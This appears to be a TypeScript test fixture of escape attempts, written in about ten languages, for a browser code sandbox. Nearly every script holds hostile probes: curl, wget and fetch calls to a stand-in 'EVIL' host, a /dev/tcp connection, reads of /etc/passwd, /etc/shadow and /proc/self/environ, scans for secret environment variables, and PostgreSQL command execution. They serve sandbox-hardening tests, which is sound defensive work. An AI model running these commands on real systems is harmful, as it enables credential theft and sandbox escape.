/** The same in other languages: their interpreters have doors of their own, into the browser's realm and to a network. */

export const attemptsInLanguages: Readonly<Record<string, string>> = {
  'reaching-out.py': `print("begun")
import os, socket, subprocess, urllib.request
import js
for name in ["fetch", "Worker", "WebSocket", "XMLHttpRequest", "EventSource", "importScripts", "indexedDB", "caches", "postMessage", "document", "parent"]:
    if getattr(js, name, None) is not None:
        print("ESCAPED", name)

def attempt(what, act):
    try:
        act()
        print(what, "gave something")
    except BaseException as problem:
        print(what, "refused", type(problem).__name__)

attempt("urllib", lambda: urllib.request.urlopen("EVIL/urllib", timeout=1))
attempt("socket", lambda: socket.create_connection(("127.0.0.1", 80), timeout=1))
attempt("shell", lambda: subprocess.run(["curl", "EVIL/curl"]))
attempt("fork", os.fork)
attempt("eval", lambda: js.eval("fetch('EVIL/eval')"))
attempt("function", lambda: js.Function.new("return importScripts('EVIL/function')")())
attempt("secrets", lambda: print(open("/proc/self/environ").read()))
`,
  'loading.py': `print("begun")
import asyncio
import pyodide_js
from pyodide.http import open_url, pyfetch

async def attempt(what, act):
    try:
        await asyncio.wait_for(act(), 2)
        print(what, "gave something")
    except BaseException as problem:
        print(what, "refused", type(problem).__name__)

async def opened():
    open_url("EVIL/open_url")

async def all_of_them():
    await attempt("pyfetch", lambda: pyfetch("EVIL/pyfetch"))
    await attempt("open_url", opened)
    await attempt("package", lambda: pyodide_js.loadPackage("EVIL/package.whl"))

asyncio.run(all_of_them())
`,
  'taking-over.py': `print("begun")
import js, sys
sys.settrace(None)
js.Object.prototype.kind = "ended"
js.MessagePort.prototype.postMessage = lambda *rest: print("ESCAPED with a port")
js.EventTarget.prototype.addEventListener = lambda *rest: print("ESCAPED with a listener")
print("still here")
`,
  'reaching-out.rb': `puts "begun"
require "js"
%i[fetch Worker WebSocket XMLHttpRequest importScripts indexedDB caches postMessage document parent].each do |name|
  puts "ESCAPED #{name}" unless JS.global[name] == JS::Undefined
end
def attempt(what)
  yield
  puts "#{what} gave something"
rescue Exception => problem
  puts "#{what} refused #{problem.class}"
end
attempt("eval") { JS.eval("return fetch('EVIL/ruby')") }
attempt("new") { JS.global[:Function].new("importScripts('EVIL/ruby-function')").call(:call) }
attempt("socket") { require "socket"; TCPSocket.new("127.0.0.1", 80) }
attempt("http") { require "net/http"; Net::HTTP.get(URI("EVIL/ruby-http")) }
attempt("shell") { system("curl", "EVIL/ruby-shell") or raise "no shell" }
attempt("fork") { fork }
attempt("passwords") { File.read("/etc/passwd") }
`,
  'reaching-out.php': `<?php
echo "begun\\n";
function attempt(string $what, callable $act): void {
    try {
        echo $what, @$act() ? " gave something" : " refused", "\\n";
    } catch (Throwable $problem) {
        echo $what, " refused ", $problem::class, "\\n";
    }
}
attempt("socket", fn() => fsockopen("127.0.0.1", 80, timeout: 1));
attempt("stream", fn() => stream_socket_client("tcp://127.0.0.1:80", timeout: 1));
attempt("shell", fn() => shell_exec("curl EVIL/php-shell"));
attempt("browser", fn() => (new Vrzno)->fetch("EVIL/vrzno"));
attempt("evaluated", fn() => vrzno_eval("fetch('EVIL/vrzno-eval')"));
attempt("passwords", fn() => file_get_contents("/etc/passwd") && print("ESCAPED passwords"));
`,
  'asking.php': `<?php
echo "begun\\n";
echo file_get_contents("EVIL/php") === false ? "refused\\n" : "gave something\\n";
`,
  'reaching-out.lua': `print("begun")
if js or jsglobal then print("ESCAPED js") end
for _, name in ipairs({ "fetch", "window", "self", "document", "globalThis" }) do
  if _G[name] then print("ESCAPED", name) end
end
local function attempt(what, act)
  local done, result = pcall(act)
  print(what, done and result and "gave something" or "refused")
end
attempt("popen", function() return io.popen("curl EVIL/lua"):read("a") end)
attempt("shell", function() return os.execute("curl EVIL/lua-shell") end)
attempt("library", function() return package.loadlib("EVIL/lua.so", "*") end)
attempt("passwords", function() return io.open("/etc/passwd"):read("a") end)
`,
  'reaching-out.sh': `echo begun
curl EVIL/bash || echo refused
wget EVIL/bash-wget || echo refused
exec 3<>/dev/tcp/127.0.0.1/80 || echo refused
node -e "fetch('EVIL/bash-node')" || echo refused
python3 -c "import urllib.request; urllib.request.urlopen('EVIL/bash-python')" || echo refused
cat /etc/shadow && echo ESCAPED shadow
env | grep -i key && echo ESCAPED key
true
`,
  'reaching-out.pl': `print "begun\\n";
sub attempt {
  my ($what, $act) = @_;
  my $result = eval { $act->() };
  print $what, $result ? " gave something" : " refused", "\\n";
}
attempt("shell", sub { system("curl", "EVIL/perl-shell") == 0 });
attempt("backticks", sub { \`curl EVIL/perl-backticks\` });
attempt("pipe", sub { open(my $pipe, "-|", "curl EVIL/perl-pipe") });
attempt("fork", sub { defined fork });
attempt("socket", sub { require IO::Socket::INET; IO::Socket::INET->new("127.0.0.1:80") });
attempt("http", sub { require HTTP::Tiny; HTTP::Tiny->new->get("EVIL/perl-http")->{success} });
attempt("passwords", sub { open(my $file, "<", "/etc/passwd") && print("ESCAPED passwords\\n") });
print "ESCAPED $_\\n" for grep { /key|token|secret/i } keys %ENV;
`,
  'reaching-out.scm': `(display "begun")
(js-eval "fetch('EVIL/scheme')")
(display "ESCAPED js-eval")
`,
  'loading.scm': `(display "begun")
(load "EVIL/scheme-load")
(display "ESCAPED load")
`,
  'reaching-out.sql': `SELECT 'begun';
ATTACH DATABASE 'EVIL/sql' AS evil;
CREATE TABLE IF NOT EXISTS evil.found (a);
SELECT load_extension('EVIL/extension');
`,
  'reaching-out.pgsql': `SELECT 'begun';
DO $$
DECLARE
  attempt text;
BEGIN
  FOREACH attempt IN ARRAY ARRAY[
    'COPY (SELECT 1) TO PROGRAM ''curl EVIL/postgres-program''',
    'CREATE EXTENSION dblink',
    'CREATE EXTENSION http',
    'CREATE FUNCTION sh(text) RETURNS int LANGUAGE C AS ''libc.so.6'', ''system''',
    'LOAD ''EVIL/postgres.so'''
  ] LOOP
    BEGIN
      EXECUTE attempt;
      RAISE NOTICE 'ESCAPED %', attempt;
    EXCEPTION WHEN OTHERS THEN
      RAISE NOTICE 'refused: %', SQLERRM;
    END;
  END LOOP;
END $$;
SELECT pg_read_file('/proc/self/environ');
`,
  'reaching-out.c': `#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
extern char **environ;
int main(void) {
  puts("begun");
  for (char **one = environ; one && *one; one++) printf("ESCAPED %s\\n", *one);
  const char *paths[] = {"/etc/passwd", "../../etc/passwd", "/proc/self/environ", "/dev/tcp/127.0.0.1/80", "EVIL/c"};
  for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) puts(fopen(paths[i], "r") ? "ESCAPED a file" : "refused");
  for (int fd = 4; fd < 100; fd++) if (write(fd, "x", 1) == 1) puts("ESCAPED a file descriptor");
}
`,
}
